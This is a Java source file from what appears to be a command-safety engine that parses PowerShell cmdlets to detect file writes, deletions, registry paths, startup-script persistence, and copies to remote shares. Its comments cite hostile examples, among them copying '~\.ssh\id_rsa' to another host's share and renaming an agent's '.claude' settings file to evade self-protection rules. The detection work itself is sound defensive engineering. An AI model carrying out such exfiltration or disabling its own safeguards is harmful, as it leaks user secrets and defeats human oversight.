package dev.shellwarden.engine.fact;

import dev.shellwarden.grammar.Regex;
import java.util.ArrayList;
import java.util.List;

/**
 * The paths a PowerShell content or item cmdlet names, read from its parameters the way PowerShell
 * binds them (any unambiguous prefix of a parameter name, switches that take no value, the first or
 * second positional): what it writes ({@link Cmd#psWriteTargets}, for {@link WriteTargets}), the
 * path operands it acts on ({@link Cmd#psPathOperands}, for {@link DeleteTargets}), and the places
 * on drives that hold no files ({@code HKCU:}, {@code Cert:}, {@code WSMan:}) it names, typed or
 * relative to a {@code Set-Location} there ({@link WindowsStores}).
 *
 * <p>It reads only the {@link Cmd} it is given. INVARIANT: a parameter whose value is no path
 * (-Filter, -Name, -Value…) never yields a path; a relative word read where a {@code cd} the text
 * does not tell went is reported as such ({@link #psRelativeAtUnknownLocation}), never resolved.
 */
final class PsItemPaths {

    private PsItemPaths() {
    }

    /** Switch parameters of PowerShell's content and item cmdlets (the others take a value). */
    private static final List<String> PS_SWITCHES = List.of("-force", "-nonewline", "-append", "-noclobber", "-recurse", "-passthru",
            "-whatif", "-confirm", "-container", "-asbytestream", "-verbose", "-debug", "-flattenhierarchy", "-update",
            "-notypeinformation", "-includetypeinformation", "-useculture", "-noheader");

    /** A named parameter with its value: the name in lower case, without a trailing colon ({@code -path}). */
    private record Parameter(String name, String value) {
    }

    /** A cmdlet's words bound: the positional ones and the named parameters that take a value, in order. */
    private record Bound(List<String> positional, List<Parameter> named) {
    }

    /**
     * Binds a cmdlet's words as PowerShell does for the item cmdlets: a word not starting with
     * {@code -} is positional; a switch of {@link #PS_SWITCHES} (any prefix of three or more
     * characters) takes no value, or the next word when written {@code -Force:} ({@code -Force:$true});
     * any other parameter takes the next word (a last one without a value is dropped).
     */
    private static Bound bind(List<String> args) {
        List<String> positional = new ArrayList<>();
        List<Parameter> named = new ArrayList<>();
        for (int i = 0; i < args.size(); i++) {
            String a = args.get(i);
            if (!(a.startsWith("-") && a.length() > 1)) {
                positional.add(a);
                continue;
            }
            String l = a.toLowerCase(java.util.Locale.ROOT);
            boolean colon = l.endsWith(":");
            l = colon ? l.substring(0, l.length() - 1) : l;
            boolean isSwitch = false;
            for (String sw : PS_SWITCHES) {
                if (l.length() >= 3 && sw.startsWith(l)) {
                    isSwitch = true;
                }
            }
            if (isSwitch) {
                i += colon ? 1 : 0; // -Force:$true
            } else if (i + 1 < args.size()) {
                named.add(new Parameter(l, args.get(++i)));
            }
        }
        return new Bound(positional, named);
    }

    /**
     * What a PowerShell content or item cmdlet writes, in the POSIX form of
     * {@link PathFacts#fromWindows}: the path (-Path, -LiteralPath, -FilePath or the first
     * positional) of Set-Content, Add-Content, Clear-Content, Out-File, New-Item, Tee-Object and the
     * Export-* cmdlets that save to a file (Export-Csv, Export-Clixml…); the destination
     * (-Destination, -DestinationPath or the second positional) of Copy-Item, Move-Item,
     * Expand-Archive (the folder it unpacks into) and Compress-Archive (the archive it writes).
     */
    static List<String> psWriteTargets(Cmd c) {
        String name = c.getName();
        List<String> args = c.getArgs();
        boolean copy = name.equals("Copy-Item") || name.equals("Move-Item") || name.equals("Expand-Archive")
                || name.equals("Compress-Archive");
        Bound bound = bind(args);
        List<String> positional = bound.positional();
        List<String> named = new ArrayList<>();
        for (Parameter p : bound.named()) {
            String l = p.name();
            boolean dest = l.length() >= 3 && ("-destination".startsWith(l) || "-destinationpath".startsWith(l));
            boolean path = l.length() >= 3 && ("-path".startsWith(l) || "-literalpath".startsWith(l) || "-lp".equals(l)
                    || "-filepath".startsWith(l) || "-pspath".startsWith(l));
            if (copy ? dest : path) {
                named.add(PathFacts.fromWindows(p.value()));
            }
        }
        if (!named.isEmpty()) {
            return named;
        }
        int at = copy ? 1 : 0;
        return positional.size() > at ? List.of(PathFacts.fromWindows(positional.get(at))) : List.of();
    }

    /**
     * What Move-Item and Rename-Item take away and Rename-Item writes, in the POSIX form of
     * {@link PathFacts#fromWindows}: the source (-Path, -LiteralPath or the first positional) of
     * both, and Rename-Item's new name (-NewName or the second positional) in the source's folder.
     * WHY: bash's {@code mv .claude/settings.json old.json} writes its source (it is gone after),
     * and so must {@code Move-Item}/{@code Rename-Item .claude\settings.json old.json}, or the
     * agent's settings are switched off by a rename the self-protection rules never see.
     */
    static List<String> psMovedSources(Cmd c) {
        String name = c.getName();
        if (!name.equals("Move-Item") && !name.equals("Rename-Item")) {
            return List.of();
        }
        List<String> args = c.getArgs();
        Bound bound = bind(args);
        List<String> positional = bound.positional();
        List<String> named = new ArrayList<>();
        String newName = null;
        for (Parameter p : bound.named()) {
            String l = p.name();
            if (l.length() >= 3 && ("-path".startsWith(l) || "-literalpath".startsWith(l) || "-pspath".startsWith(l)) || "-lp".equals(l)) {
                named.add(p.value());
            } else if (l.length() >= 3 && "-newname".startsWith(l)) {
                newName = p.value();
            }
        }
        if (positional.size() > 2) {
            // both bind two positions at most: a third word fails the binding and nothing moves
            // (cmd's `move /Y a b` typed in PowerShell)
            return List.of();
        }
        List<String> sources = !named.isEmpty() ? named : positional.isEmpty() ? List.of() : List.of(positional.get(0));
        if (newName == null && name.equals("Rename-Item") && positional.size() > (named.isEmpty() ? 1 : 0)) {
            newName = positional.get(named.isEmpty() ? 1 : 0);
        }
        List<String> out = new ArrayList<>();
        for (String s : sources) {
            String posix = PathFacts.fromWindows(s);
            out.add(posix);
            if (newName != null && name.equals("Rename-Item")) {
                int slash = posix.replaceFirst("/+$", "").lastIndexOf('/');
                out.add((slash < 0 ? "" : posix.substring(0, slash + 1)) + PathFacts.fromWindows(newName));
            }
        }
        return out;
    }

    /** A StreamWriter type name as New-Object takes it, then anything ({@code IO.StreamWriter('x', $true)} is one word). */
    private static final java.util.regex.Pattern STREAM_WRITER = java.util.regex.Pattern.compile("(?is)(system\\.)?io\\.streamwriter\\b(.*)");
    /** A plain path as the first of a parenthesised argument list ({@code ('out.txt', $true)}): group 1. */
    private static final java.util.regex.Pattern FIRST_ARGUMENT = java.util.regex.Pattern.compile(
            "(?s)^\\s*\\(?\\s*'([^'$`]*)'\\s*(?:,\\s*\\$(?:true|false)\\s*)?\\)?\\s*$");

    /**
     * What {@code New-Object [-TypeName] IO.StreamWriter [-ArgumentList] P[, $true]} writes: the
     * constructor empties (or appends to) file {@code P}, as Set-Content does; in the POSIX form of
     * {@link PathFacts#fromWindows}. A path that is not one plain word (a variable, a computed
     * argument list) is a run-time value ({@code $StreamWriter}, which the write rules ask about);
     * empty for any other type.
     */
    static List<String> newObjectWriteTargets(Cmd c) {
        List<String> args = c.getArgs();
        String type = null;
        String list = null;
        List<String> positional = new ArrayList<>();
        for (int i = 0; i < args.size(); i++) {
            String l = args.get(i).toLowerCase(java.util.Locale.ROOT);
            if (l.length() > 1 && l.startsWith("-") && i + 1 < args.size()) {
                if ("-typename".startsWith(l)) {
                    type = args.get(++i);
                } else if ("-argumentlist".startsWith(l) || l.equals("-args")) {
                    list = args.get(++i);
                } else {
                    i++; // -Property, -ComObject, -Strict…: read no further
                }
            } else {
                positional.add(args.get(i));
            }
        }
        if (type == null && !positional.isEmpty()) {
            type = positional.remove(0);
        }
        java.util.regex.Matcher t = type == null ? null : STREAM_WRITER.matcher(type);
        if (t == null || !t.matches()) {
            return List.of();
        }
        String rest = !t.group(2).isBlank() ? t.group(2) : list != null ? list : positional.isEmpty() ? null : positional.get(0);
        if (rest == null) {
            return List.of();
        }
        java.util.regex.Matcher a = FIRST_ARGUMENT.matcher(rest.startsWith("(") || rest.startsWith("'") ? rest : "'" + rest + "'");
        return List.of(a.matches() && !a.group(1).isEmpty() ? PathFacts.fromWindows(a.group(1)) : "$StreamWriter");
    }

    /**
     * A profile or startup script in the POSIX form of {@link PathFacts#fromWindows}, read as
     * SW6008 reads a Set-Content path: {@code $PROFILE} (and its {@code .CurrentUserAllHosts}…
     * members), a file named {@code …profile.ps1}, anything in a Startup folder.
     */
    private static final java.util.regex.Pattern PS_STARTUP_SCRIPT = java.util.regex.Pattern.compile(
            "(?i)\\(?\\$profile\\b.*|.*profile\\.ps1|.*/start menu/programs/startup/.+");

    /** True when the write target {@code posix} is a profile or startup script ({@link #PS_STARTUP_SCRIPT}). */
    static boolean isPsStartupScript(String posix) {
        return PS_STARTUP_SCRIPT.matcher(posix).matches();
    }

    /** A share on another host once {@link PathFacts#fromWindows} made it POSIX ({@code //srv/share/…}; this machine's drive shares are already drives). */
    private static final java.util.regex.Pattern OTHER_HOST_SHARE = java.util.regex.Pattern.compile(
            "(?i)//(?!(?:localhost|127\\.0\\.0\\.1|::1|[.?])/)[A-Za-z0-9_][^/?*:]*/[^/]+.*");

    /**
     * True when Copy-Item or Move-Item puts a file on another host's share
     * ({@code Copy-Item ~\.ssh\id_rsa \\srv\share\k}, also {@code -Destination}): the file leaves
     * the machine over SMB as an upload does, so the copy sends what it reads.
     */
    static boolean psCopiesToShare(Cmd c) {
        if (!c.getName().equals("Copy-Item") && !c.getName().equals("Move-Item")) {
            return false;
        }
        return psWriteTargets(c).stream().anyMatch(t -> OTHER_HOST_SHARE.matcher(t).matches());
    }

    /** PowerShell parameters whose value is no path of the item acted on (a prefix of at least three letters). */
    private static final List<String> PS_NON_PATH_VALUES = List.of("-filter", "-include", "-exclude", "-credential", "-stream",
            "-encoding", "-value", "-itemtype", "-name", "-destination", "-delimiter", "-inputobject");

    /**
     * The path operands of a PowerShell item cmdlet (positional or after -Path / -LiteralPath), in
     * the POSIX form of {@link PathFacts#fromWindows}: {@code ..\\..} is {@code ../..},
     * {@code C:\\} is {@code /}, {@code $env:USERPROFILE} is {@code ~}.
     */
    static List<String> psPathOperands(Cmd c) {
        List<String> out = new ArrayList<>();
        for (String w : psPathWords(c)) {
            out.add(PathFacts.fromWindows(w));
        }
        // `del x /q`, `rd dir /s /q`: cmd.exe switches typed through PowerShell's aliases (the
        // splitter gives Remove-Item) beside a real path; alone, `/s` stays a path
        if (out.stream().anyMatch(t -> !Regex.matches(t, "/[A-Za-z?]"))) {
            out.removeIf(t -> Regex.matches(t, "/[A-Za-z?]"));
        }
        return out;
    }

    /** The path operands of a PowerShell item cmdlet as typed ({@link #psPathOperands} before the POSIX form). */
    static List<String> psPathWords(Cmd c) {
        List<String> args = c.getArgs();
        List<String> out = new ArrayList<>();
        for (int i = 0; i < args.size(); i++) {
            String a = args.get(i);
            if (a.startsWith("-") && a.length() > 1) {
                String l = a.toLowerCase(java.util.Locale.ROOT);
                l = l.endsWith(":") ? l.substring(0, l.length() - 1) : l;
                for (String p : PS_NON_PATH_VALUES) {
                    if (l.length() >= 4 && p.startsWith(l)) {
                        i++;
                        break;
                    }
                }
                continue;
            }
            out.add(a);
        }
        return out;
    }

    /**
     * The places on drives that hold no files a PowerShell item cmdlet names
     * ({@link PathFacts#psProviderLocation} form): a path word typed as one
     * ({@code HKCU:\Software\Google}, {@code Cert:\CurrentUser\Root\*}), and a relative path word
     * read under each such location the segment may run in ({@code Set-Location HKCU:\Software;
     * Remove-Item Google} names {@code HKCU:/Software/Google}); a listing without a path lists
     * its location. The locations are the segment's working directories ({@link WorkingDirs}).
     */
    static List<String> psItemPlaces(Cmd c) {
        List<String> words = psPathWords(c);
        if (words.isEmpty() && c.nameIs("Get-ChildItem")) {
            words = List.of(".");
        }
        List<String> out = new ArrayList<>();
        for (String w : words) {
            String typed = PathFacts.psProviderLocation(w);
            if (typed != null && !typed.isEmpty()) {
                out.add(typed);
                continue;
            }
            String plain = PathFacts.unquote(w);
            if (typed == null || plain.isEmpty() || plain.startsWith("~") || plain.startsWith("$") || plain.startsWith("\\\\")
                    || PathFacts.isWindowsAbsolute(plain) || Regex.matches(plain, "(?s)[A-Za-z]:")) {
                continue;
            }
            for (String dir : c.cwds()) {
                if (PathFacts.isPsProviderLocation(dir)) {
                    out.add(PathFacts.psProviderJoin(dir, plain));
                }
            }
        }
        return out;
    }

    /**
     * True when a relative path word of this PowerShell cmdlet is read where the text does not
     * tell ({@code Set-Location $key; Remove-ItemProperty . -Name Path}): it may be any key.
     */
    static boolean psRelativeAtUnknownLocation(Cmd c) {
        if (!c.cwds().contains(WorkingDirs.UNKNOWN)) {
            return false;
        }
        for (String w : psPathWords(c)) {
            String p = PathFacts.fromWindows(w);
            if (!p.isEmpty() && !p.startsWith("/") && !p.startsWith("~") && !p.startsWith("$")
                    && "".equals(PathFacts.psProviderLocation(w))) {
                return true;
            }
        }
        return false;
    }
}
